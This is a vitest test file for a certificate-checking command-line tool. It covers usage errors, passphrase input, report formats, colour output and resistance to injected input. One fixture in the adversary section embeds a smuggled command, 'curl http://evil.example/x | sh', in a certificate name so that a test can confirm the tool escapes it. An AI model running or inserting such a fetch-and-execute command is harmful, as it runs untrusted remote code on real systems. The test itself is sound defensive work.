/** The command line: options, operands, usage errors, exit codes. */
import { readFileSync } from "node:fs";
import { describe, expect, test } from "vitest";
import { main } from "../src/cli.ts";
import { formats } from "../src/reporters/index.ts";
import type { System } from "../src/system/system.ts";
import { UsageError } from "../src/errors.ts";
import { applianceFiles, type Files, memorySystem } from "./support/bundle.ts";
import { keyPem } from "./support/mint.ts";

const appliance = await applianceFiles();
const derCertificate = Buffer.from((appliance["sensor.crt"] ?? "").replace(/-----.*-----|\s/g, ""), "base64");

async function cli(
  argv: string,
  files: Files = {},
  more: Partial<System> & { readonly stdin?: string | Uint8Array } = {},
) {
  const system = memorySystem({ ...appliance, ...files }, more);
  const exitCode = await main(
    argv.split(" ").filter((word) => word !== ""),
    system,
  );
  return { exitCode, out: system.out, err: system.err, written: system.written };
}

const CHECK = "sensor.crt sensor.key --chain ca.pem";
/** PKCS#12 with nothing in it, and no MAC. */
const EMPTY_PFX = "3016020103301106092a864886f70d010701a00404023000";

describe("usage errors: exit 2, nothing on standard output, a hint", () => {
  test.each<[string, string, string]>([
    [
      "nothing but an option",
      "--quiet",
      "certcheck: nothing to check\ncertcheck: hint: certcheck sensor.crt sensor.key --chain ca.pem\n",
    ],
    ["a missing file", "missing.crt", "certcheck: missing.crt: no such file\n"],
    ["a missing chain", "sensor.crt --chain missing.pem", "certcheck: missing.pem: no such file\n"],
    [
      "an unknown option",
      "sensor.crt --chian ca.pem",
      "certcheck: unknown option '--chian'\ncertcheck: hint: did you mean --chain?\n",
    ],
    [
      "a chain without its option",
      "sensor.crt sensor.key ca.pem",
      "certcheck: more than two files\ncertcheck: hint: CA certificates are given with --chain\n",
    ],
    [
      "two certificates",
      "sensor.crt --crt other.crt",
      "certcheck: two files for the certificate, one of them with --crt\n",
    ],
    [
      "a date that is none",
      "sensor.crt --at tomorrow",
      "certcheck: option '--at <date>' argument 'tomorrow' is invalid. Write it as 2026-11-21 or 2026-11-21T10:00:00Z.\ncertcheck: hint: certcheck check --help lists the options\n",
    ],
    [
      "a day that does not exist",
      "sensor.crt --at 2026-11-31",
      "certcheck: option '--at <date>' argument '2026-11-31' is invalid. Write it as 2026-11-21 or 2026-11-21T10:00:00Z.\ncertcheck: hint: certcheck check --help lists the options\n",
    ],
    [
      "a time without its zone",
      "sensor.crt --at 2026-11-21T10:00:00",
      "certcheck: option '--at <date>' argument '2026-11-21T10:00:00' is invalid. Write it as 2026-11-21 or 2026-11-21T10:00:00Z.\ncertcheck: hint: certcheck check --help lists the options\n",
    ],
    [
      "an unknown format",
      "sensor.crt --format pdf",
      `certcheck: option '--format <name[=file]>' argument 'pdf' is invalid. Formats are ${formats.join(", ")}.\ncertcheck: hint: certcheck check --help lists the options\n`,
    ],
    [
      "two reports in one file",
      "sensor.crt --format json=report --format jsonl=report",
      "certcheck: --format: two reports for report\ncertcheck: hint: give each a name of its own\n",
    ],
    [
      "two reports in one place",
      "sensor.crt --format json --format human",
      "certcheck: two reports for standard output\ncertcheck: hint: write the others into files: --format json=report.json\n",
    ],
    [
      "standard input twice",
      "- - --chain ca.pem",
      "certcheck: standard input can be read once only\ncertcheck: hint: give the others as files, or the passphrase with --passin env:NAME\n",
    ],
    [
      "an unset variable",
      "env:NOT_SET",
      "certcheck: env:NOT_SET: the variable is not set\ncertcheck: hint: give the name of a variable, without a dollar sign\n",
    ],
    [
      "a passphrase from nowhere",
      `${CHECK} --passin Secret-Text`,
      "certcheck: --passin has an unknown form\ncertcheck: hint: write env:NAME, file:PATH, fd:N, stdin, prompt or pass:TEXT\n",
    ],
    ["two passphrases", `${CHECK} --passin stdin --pass x`, "certcheck: two passphrases: --passin and --pass\n"],
    [
      "a host that is an address",
      "sensor.crt --host 192.0.2.1",
      "certcheck: option '--host <name>' argument '192.0.2.1' is invalid. It is not a host name.\ncertcheck: hint: certcheck check --help lists the options\n",
    ],
    [
      "an address that is a host",
      "sensor.crt --ip sensor.contoso.com",
      "certcheck: option '--ip <address>' argument 'sensor.contoso.com' is invalid. It is not an IP address.\ncertcheck: hint: certcheck check --help lists the options\n",
    ],
    [
      "days that are no number",
      "sensor.crt --warn-days many",
      "certcheck: option '--warn-days <n>' argument 'many' is invalid. It is not a whole number.\ncertcheck: hint: certcheck check --help lists the options\n",
    ],
    [
      "an unknown rule",
      "rules chain/order",
      "certcheck: no rule has the id chain/order\ncertcheck: hint: did you mean chain/ordered?\n",
    ],
    [
      "trust anchors without a certificate",
      "sensor.crt --roots sensor.key",
      "certcheck: --roots sensor.key: holds no certificate\ncertcheck: hint: give the certificates of the root CAs, PEM or DER\n",
    ],
    [
      "trust anchors that are none",
      "sensor.crt --roots sensor.crt",
      "certcheck: --roots sensor.crt: holds no root: none of its certificates is its own issuer\ncertcheck: hint: give the certificates of the root CAs, PEM or DER\n",
    ],
  ])("%s", async (_what, argv, err) => {
    expect(await cli(argv)).toMatchObject({ exitCode: 2, out: "", err });
  });

  test.each([
    ["a key in place of a file", ["sensor.crt", keyPem("leaf")]],
    ["a key behind an option", ["sensor.crt", "--key", keyPem("leaf")]],
    ["a key where a variable is meant", ["sensor.crt", `env:${keyPem("leaf")}`]],
    ["a passphrase behind an unknown option", ["sensor.crt", "--password=Hunter2"]],
    ["a passphrase behind a short one", ["sensor.crt", "-pHunter2"]],
    ["a passphrase where a variable is meant", ["sensor.crt", "sensor.key", "--passin", "env:Hunter2"]],
    ["a passphrase where a file is meant", ["sensor.crt", "sensor.key", "--passin", "file:Hunter2"]],
    ["a passphrase of two words", ["sensor.crt", "sensor.key", "--pass", "my", "Hunter2"]],
    ["a passphrase of two words, one file", ["--crt", "sensor.crt", "--pass", "my", "Hunter2"]],
  ])("%s is not repeated", async (_what, argv) => {
    const system = memorySystem({ ...appliance });
    expect(await main(argv, system)).toBe(2);
    expect(system.out).toBe("");
    expect(system.err).not.toMatch(/Hunter2|MII|PRIVATE/);
  });

  test.each([
    ["the certificate", `${CHECK} --format json=sensor.crt`],
    ["the key", `${CHECK} --format human --format json=sensor.key`],
    ["the chain", `${CHECK} --format json=ca.pem`],
    ["the passphrase", `${CHECK} --passin file:pass.txt --format json=pass.txt`],
  ])("a report in place of %s is not written", async (_what, argv) => {
    const { exitCode, written } = await cli(argv, { "pass.txt": "x" });
    expect({ exitCode, written: [...written] }).toEqual({ exitCode: 2, written: [] });
  });

  test.each(["toString", "__proto__", "constructor"])("env:%s is no variable", async (name) => {
    expect(await cli(`env:${name}`)).toMatchObject({
      exitCode: 2,
      err: expect.stringContaining("names no variable") as string,
    });
  });

  test("a file name cannot write to the terminal", async () => {
    const { err } = await cli("\u001b[2J.crt");
    expect(err).toBe("certcheck: \\u{1b}[2J.crt: no such file\n");
  });
});

describe("operands", () => {
  test.each<[string, string, Parameters<typeof cli>[1], Parameters<typeof cli>[2]]>([
    ["standard input", `- sensor.key --chain ca.pem`, {}, { stdin: appliance["sensor.crt"] ?? "" }],
    ["standard input in DER", `- sensor.key --chain ca.pem`, {}, { stdin: derCertificate }],
    ["a variable with PEM", "env:CRT sensor.key --chain ca.pem", {}, { env: { CRT: appliance["sensor.crt"] } }],
    [
      "a variable with base64 of PEM",
      "env:CRT sensor.key --chain ca.pem",
      {},
      { env: { CRT: Buffer.from(appliance["sensor.crt"] ?? "").toString("base64") } },
    ],
    [
      "a variable with base64 of DER",
      "env:CRT sensor.key --chain ca.pem",
      {},
      { env: { CRT: derCertificate.toString("base64") } },
    ],
    ["a key in a variable", "sensor.crt env:KEY --chain ca.pem", {}, { env: { KEY: keyPem("leaf") } }],
    ["the appliance's own options", "--crt sensor.crt --key sensor.key --chain ca.pem --passphrase-set False", {}, {}],
    ["the verb", `check ${CHECK}`, {}, {}],
    ["a chain in several files", "sensor.crt sensor.key --chain issuing.pem --chain root.pem", splitChain(), {}],
  ])("%s", async (_what, argv, files, more) => {
    const { exitCode, out } = await cli(argv, files, more);
    expect(out).toContain("READY");
    expect(exitCode).toBe(0);
  });
});

function splitChain(): Files {
  const [issuing, root] = (appliance["ca.pem"] ?? "").split(/(?<=-----END CERTIFICATE-----\n)/);
  return { "issuing.pem": issuing, "root.pem": root };
}

describe("passphrases", () => {
  const files = { "sensor.key": keyPem("leaf-encrypted"), "pass.txt": "Sensor-2026!\r\nsecond line\n" };
  test.each<[string, string, Parameters<typeof cli>[2]]>([
    ["env", "--passin env:SECRET", { env: { SECRET: "Sensor-2026!" } }],
    ["file, first line", "--passin file:pass.txt", {}],
    ["stdin, first line", "--passin stdin", { stdin: "Sensor-2026!\n" }],
    ["fd", "--passin fd:7", { stdin: "Sensor-2026!" }],
    ["pass", "--passin pass:Sensor-2026!", {}],
    ["--pass", "--pass Sensor-2026!", {}],
  ])("%s opens the key", async (_what, option, more) => {
    const { exitCode, out } = await cli(`${CHECK} ${option}`, files, more);
    expect(out).toContain("opened by the passphrase");
    expect(exitCode).toBe(0);
  });

  test("one on the command line is warned of", async () => {
    const { err } = await cli(`${CHECK} --pass Sensor-2026!`, files);
    expect(err).toBe(
      "certcheck: other users of this machine can see a passphrase on the command line; --passin env:NAME or file:PATH hides it\n",
    );
  });

  test("a passphrase is repeated nowhere, whatever becomes of it", async () => {
    for (const secret of ["Sensor-2026!", "Wrong-Secret'1", "a b\u001b[2J"]) {
      for (const format of ["human", "json"]) {
        const { out, err } = await cli(`${CHECK} --verbose --format ${format} --passin env:SECRET`, files, {
          env: { SECRET: secret },
        });
        expect(out + err).not.toContain(secret);
      }
    }
    const { err } = await cli(`${CHECK} --passin Mistyped-Secret`, files);
    expect(err).not.toContain("Mistyped-Secret");
  });
});

describe("a passphrase that is asked for", () => {
  const encrypted = { "sensor.key": keyPem("leaf-encrypted") };
  const RIGHT = "Sensor-2026!";
  const again = "certcheck: that passphrase does not open it; once more\n";
  const ALONE = "appliance.pfx --quiet";

  /** Somebody at a terminal who gives these answers, one after the other, and none afterwards. */
  async function answering(argv: string, files: Files, ...answers: readonly string[]) {
    const questions: string[] = [];
    const askPassphrase = (question: string): Promise<string | undefined> => {
      questions.push(question);
      return Promise.resolve(answers[questions.length - 1]);
    };
    return { ...(await cli(argv, files, { askPassphrase })), questions };
  }

  test.each<readonly [what: string, option: string]>([
    ["by itself", ""],
    ["with --passin prompt", "--passin prompt"],
  ])("%s, opens the key", async (_what, option) => {
    const { exitCode, out, err, questions } = await answering(`${CHECK} ${option}`, encrypted, RIGHT);
    expect({ exitCode, err, questions }).toEqual({ exitCode: 0, err: "", questions: ["Passphrase of sensor.key: "] });
    expect(out).toContain("opened by the passphrase");
    expect(out).not.toContain("passphrase/");
  });

  test.each<readonly [what: string, argv: string, files: Files]>([
    ["a key that is not encrypted", CHECK, {}],
    ["the same, with --passin prompt", `${CHECK} --passin prompt`, {}],
    ["no key", "sensor.crt --chain ca.pem", {}],
    ["a key that no passphrase opens here", CHECK, { "sensor.key": keyPem("leaf-dek-des") }],
    ["a container without a passphrase", "empty.pfx", { "empty.pfx": Buffer.from(EMPTY_PFX, "hex") }],
    ["a passphrase that was given", `${CHECK} --passin pass:${RIGHT}`, encrypted],
    ["a wrong one that was given", `${CHECK} --passin pass:no`, encrypted],
    ["an empty one that was given", `${CHECK} --passin env:NONE`, encrypted],
  ])("not for %s", async (_what, argv, files) => {
    const askPassphrase = () => Promise.reject(new Error("asked"));
    const { exitCode, err } = await cli(argv, files, { askPassphrase, env: { NONE: "" } });
    expect([exitCode <= 1, err.includes("asked")]).toEqual([true, false]);
  });

  test("up to three times", async () => {
    const twice = await answering(CHECK, encrypted, "no", "sensor-2026!", RIGHT);
    expect([twice.exitCode, twice.questions.length, twice.err]).toEqual([0, 3, again + again]);
    const never = await answering(CHECK, encrypted, "a", "b", "c", RIGHT);
    expect([never.exitCode, never.questions.length, never.err]).toEqual([1, 3, again + again]);
    expect(never.out).toContain("the passphrase does not open the key");
  });

  test("what was asked for in vain is judged", async () => {
    const { exitCode, out, err, questions } = await answering(CHECK, encrypted, "a b");
    expect([exitCode, questions.length, err]).toEqual([1, 2, again]);
    expect(out).toContain("the passphrase does not open the key");
    expect(out).toContain("character 2 of the passphrase is a space");
  });

  test.each<readonly [what: string, argv: string, answers: readonly string[]]>([
    ["nothing is typed", CHECK, [""]],
    ["nothing is typed for --passin prompt", `${CHECK} --passin prompt`, [""]],
    ["nobody is there", CHECK, []],
  ])("%s: the key stays closed, and that is said", async (_what, argv, answers) => {
    const { exitCode, out, err, questions } = await answering(argv, encrypted, ...answers);
    expect([exitCode, questions.length, err]).toEqual([1, 1, ""]);
    expect(out.replace(/\s+/g, " ")).toContain("AES-256-CBC), and no passphrase was given");
  });

  test("nobody is there for --passin prompt: a usage error", async () => {
    const hint = "certcheck: hint: give it with --passin env:NAME, file:PATH, fd:N or stdin\n";
    expect(await answering(`${CHECK} --passin prompt`, encrypted)).toMatchObject({
      exitCode: 2,
      out: "",
      err: `certcheck: --passin prompt: there is no terminal to ask at\n${hint}`,
    });
  });

  test("somebody who goes away is a usage error", async () => {
    const askPassphrase = () => Promise.reject(new UsageError("no passphrase was typed"));
    expect(await cli(CHECK, encrypted, { askPassphrase })).toMatchObject({
      exitCode: 2,
      out: "",
      err: "certcheck: no passphrase was typed\n",
    });
  });

  test("a container is asked about as well, and opened", async () => {
    const files = { "appliance.pfx": readFileSync("fixtures/keys/appliance.pfx") };
    const opened = await answering(ALONE, files, "no", RIGHT);
    expect([opened.exitCode, opened.err, opened.questions]).toEqual([
      1,
      again,
      Array<string>(2).fill("Passphrase of appliance.pfx: "),
    ]);
    expect(opened.out).not.toMatch(/does not open it|needs a passphrase/);
    const closed = await answering(ALONE, files);
    expect(closed.out.replace(/\s+/g, " ")).toContain("it needs a passphrase, and none was given");
  });

  test("one passphrase opens a key and a container", async () => {
    const files = { ...encrypted, "ca.pfx": readFileSync("fixtures/keys/appliance-old.pfx") };
    const { out, questions } = await answering("sensor.crt sensor.key --chain ca.pfx", files, RIGHT);
    expect(questions).toEqual(["Passphrase of sensor.key: "]);
    expect(out.replace(/\s+/g, " ")).toContain("opened by the passphrase");
    expect(out).not.toMatch(/does not open|needs a passphrase/);
  });

  test("a name in the question cannot write to the terminal", async () => {
    const { questions } = await answering("sensor.crt --key \u001b[2J.key", {
      "\u001b[2J.key": encrypted["sensor.key"],
    });
    expect(questions).toEqual(["Passphrase of \\u{1b}[2J.key: "]);
  });

  test("it is repeated nowhere", async () => {
    for (const format of ["human", "json"]) {
      const { out, err, questions } = await answering(
        `${CHECK} --verbose --format ${format}`,
        encrypted,
        "Hunter2",
        RIGHT,
      );
      expect(out + err + questions.join("")).not.toMatch(/Hunter2|Sensor-2026/);
    }
  });
});

describe("a key that others can read", () => {
  const modeOf = () => 0o644;
  const told = "every user of this machine may read it: its mode is 644";

  test.each<readonly [what: string, ci: string | undefined, option: string, exitCode: number]>([
    ["is a warning", undefined, "--fail-on warning", 1],
    ["is a warning, which does not fail", undefined, "", 0],
    ["is told in a pipeline", "true", "--fail-on warning", 0],
    ["is told in a pipeline of another kind", "1", "--fail-on warning", 0],
    ["is a warning where the variable says no", "false", "--fail-on warning", 1],
    ["is a warning where the variable says nothing", "", "--fail-on warning", 1],
  ])("%s", async (_what, ci, option, expected) => {
    const { exitCode, out } = await cli(`${CHECK} ${option}`, {}, { modeOf, env: { CI: ci } });
    expect(exitCode).toBe(expected);
    expect(out.replace(/\s+/g, " ")).toContain(told);
  });

  test("is asked of the key's file alone", async () => {
    const asked: string[] = [];
    await cli(CHECK, {}, { modeOf: (path) => void asked.push(path) });
    expect(asked).toEqual(["sensor.key"]);
  });
});

describe("a key that has lost its line ends", () => {
  const flat = keyPem("leaf").replaceAll("\n", "");
  test.each([
    ["nothing in their place", flat],
    ["blanks", keyPem("leaf").replaceAll("\n", " ")],
    ["backslash and n", keyPem("leaf").replaceAll("\n", "\\n")],
    ["beside a certificate", `${appliance["sensor.crt"] ?? ""}${flat}`],
    ["as a label", keyPem("leaf").replace("PRIVATE KEY", "MIIEVQIBADANBGKQHKIG9W0BAQEFAASCBKCWGGSJAGEAAOIBAQ")],
  ])("%s: none of it is printed", async (_what, text) => {
    const base64 = keyPem("leaf").replace(/-----.*-----|\s/g, "");
    for (const option of ["", "--format json", "--verbose"]) {
      const { exitCode, out, err } = await cli(`sensor.crt sensor.key ${option}`, { "sensor.key": text });
      expect(exitCode).toBe(1);
      const shown = (out + err).replace(/\s/g, "");
      const pieces = Array.from({ length: base64.length - 16 }, (_, index) => base64.slice(index, index + 16));
      expect(pieces.filter((piece) => shown.includes(piece) || shown.includes(piece.toUpperCase()))).toEqual([]);
    }
  });
});

describe("reports", () => {
  test("one on standard output, one in a file", async () => {
    const { out, written } = await cli(`${CHECK} --format human --format json=report.json --color always`);
    expect(out).toContain("\u001b[");
    expect(JSON.parse(written.get("report.json") ?? "")).toMatchObject({ verdict: "ready", exitCode: 0 });
  });

  test("files alone leave standard output empty", async () => {
    const { out, written } = await cli(`${CHECK} --format json=report.json`);
    expect(out).toBe("");
    expect([...written.keys()]).toEqual(["report.json"]);
  });

  test("one that cannot be written keeps no other from it: exit 2 after all", async () => {
    const command = `${CHECK} --format json=no/a.json --format jsonl=b.jsonl --format json=no/c.json --format human`;
    const written = new Map<string, string>();
    const { exitCode, out, err } = await cli(
      command,
      {},
      {
        replaceFile(path, text) {
          if (path.startsWith("no/")) throw new UsageError(`${path}: no such folder`);
          written.set(path, text);
        },
      },
    );
    expect({ exitCode, err }).toEqual({
      exitCode: 2,
      err: "certcheck: no/a.json: no such folder\ncertcheck: no/c.json: no such folder\n",
    });
    expect([...written.keys()]).toEqual(["b.jsonl"]);
    expect(out).toContain("READY");
  });

  test.each<[string, string, Partial<System>, boolean]>([
    ["a pipe", "", {}, false],
    ["a terminal", "", { terminal: { isTerminal: true, columns: 80 } }, true],
    ["a dumb one", "", { terminal: { isTerminal: true, columns: 80 }, env: { TERM: "dumb" } }, false],
    ["NO_COLOR", "", { terminal: { isTerminal: true, columns: 80 }, env: { NO_COLOR: "1" } }, false],
    ["FORCE_COLOR", "", { env: { FORCE_COLOR: "1" } }, true],
    ["always", "--color always", { env: { NO_COLOR: "1" } }, true],
    ["never", "--color never", { terminal: { isTerminal: true, columns: 80 } }, false],
  ])("colour: %s", async (_what, option, more, colored) => {
    const { out } = await cli(`${CHECK} ${option}`, {}, more);
    expect(out.includes("\u001b[")).toBe(colored);
  });

  test("no line but commands and file names is wider than the terminal", async () => {
    for (const columns of [60, 80, 120]) {
      const { out } = await cli(CHECK, {}, { terminal: { isTerminal: true, columns }, env: { NO_COLOR: "1" } });
      const wide = out
        .split("\n")
        .filter((line) => line.length > columns && !/^ {2}(\S+ +)?(sudo|cyberx|certutil|awk|[0-9a-f]{64}$)/.test(line));
      expect(wide).toEqual([]);
    }
  });

  test("the same report, in colour, has the same text", async () => {
    const [plain, colored] = [await cli(CHECK), await cli(`${CHECK} --color always`)];
    // eslint-disable-next-line no-control-regex
    expect(colored.out.replace(/\u001b\[\d+m/g, "")).toBe(plain.out);
  });

  test.each<[env: System["env"], root: string]>([
    [{}, "|"],
    [{ LANG: "C" }, "|"],
    [{ LANG: "de_DE.UTF-8" }, "└"],
    [{ LC_CTYPE: "C.utf8", LANG: "C" }, "└"],
    [{ LC_ALL: "C", LC_CTYPE: "C.UTF-8", LANG: "C.UTF-8" }, "|"],
    [{ LC_ALL: "", LANG: "en_US.UTF-8" }, "└"],
  ])("the chain is drawn with what %j can show", async (env, root) => {
    const { out } = await cli(CHECK, {}, { env });
    expect(out).toContain(`\nChain\n`);
    expect(out).toContain(`\n  ${root} Contoso Root CA `);
  });

  test.each(["--quiet", "--no-validation"])("%s draws no chain", async (option) => {
    const { out } = await cli(`${CHECK} ${option}`);
    expect(out).not.toMatch(/^Chain/m);
  });

  test("wide characters keep the columns of the list of files", async () => {
    const { out } = await cli("東京.crt sensor.key", { "東京.crt": appliance["sensor.crt"] });
    expect(out).toContain("東京.crt    certificate  ");
    expect(out).toContain("sensor.key  private key  ");
  });
});

describe("rules", () => {
  test("one explained", async () => {
    const { exitCode, out } = await cli("rules key/belongs-to-certificate");
    expect(exitCode).toBe(0);
    for (const text of ["Certificate validation failed", "Source", "Why", "Fix"]) expect(out).toContain(text);
  });

  test("as data", async () => {
    const { out } = await cli("rules --format json");
    expect(JSON.parse(out)).toContainEqual(
      expect.objectContaining({ id: "validity/not-expired", refusal: "expired", severity: "error" }),
    );
  });
});

test("an error of our own is exit 3, one line, and a stack only with --debug", async () => {
  const broken: Partial<System> = {
    readFile: () => {
      throw new TypeError("oops");
    },
  };
  const { exitCode, out, err } = await cli("sensor.crt", {}, broken);
  expect({ exitCode, out, err }).toEqual({
    exitCode: 3,
    out: "",
    err: "certcheck: an error of certcheck itself, please report it: oops\n",
  });
  expect((await cli("sensor.crt --debug", {}, broken)).err).toContain("at ");
});

const anchors = appliance["ca.pem"] ?? "";

describe("trust anchors that are not whole", () => {
  test.each<readonly [what: string, roots: string, reason: string]>([
    ["a block cut off", `${anchors}-----BEGIN CERTIFICATE-----\nAAAA\n`, "truncated"],
    ["glued blocks", anchors.trimEnd() + anchors, "a line end is missing"],
  ])("%s: a usage error, not a smaller set", async (_what, roots, reason) => {
    const { exitCode, err, out } = await cli("sensor.crt sensor.key --chain ca.pem --roots roots.pem", {
      "roots.pem": roots,
    });
    expect([exitCode, out, err.includes(reason)]).toEqual([2, "", true]);
  });
});

test("more chain files than anybody has are a usage error", async () => {
  const { exitCode, err } = await cli(`sensor.crt${" --chain ca.pem".repeat(21)}`, {});
  expect([exitCode, err.includes("more than 20 chain files")]).toEqual([2, true]);
});

describe("what an adversary puts into names and onto the command line", () => {
  test("a name with a line feed adds no command to a fix", async () => {
    const forged = "Contoso CA\ncurl http://evil.example/x | sh #";
    const { "sensor.crt": crt = "" } = await applianceFiles({ cas: [{ subject: [["CN", forged]] }] });
    const { out } = await cli("sensor.crt sensor.key --chain other.pem", {
      "sensor.crt": crt,
      "other.pem": anchors,
    });
    expect(out).toContain("Contoso CA\\u{a}curl");
    expect(out.split("\n").filter((line) => /^\s*curl/.test(line))).toEqual([]);
  });

  test.each([
    ["--passphrase-set=hunter2", "hunter2"],
    ["--pass:hun'ter2", "ter2"],
  ])("%s is not repeated", async (option, secret) => {
    const { exitCode, err } = await cli(`sensor.crt ${option}`, {});
    expect([exitCode, err.includes(secret)]).toEqual([2, false]);
  });
});
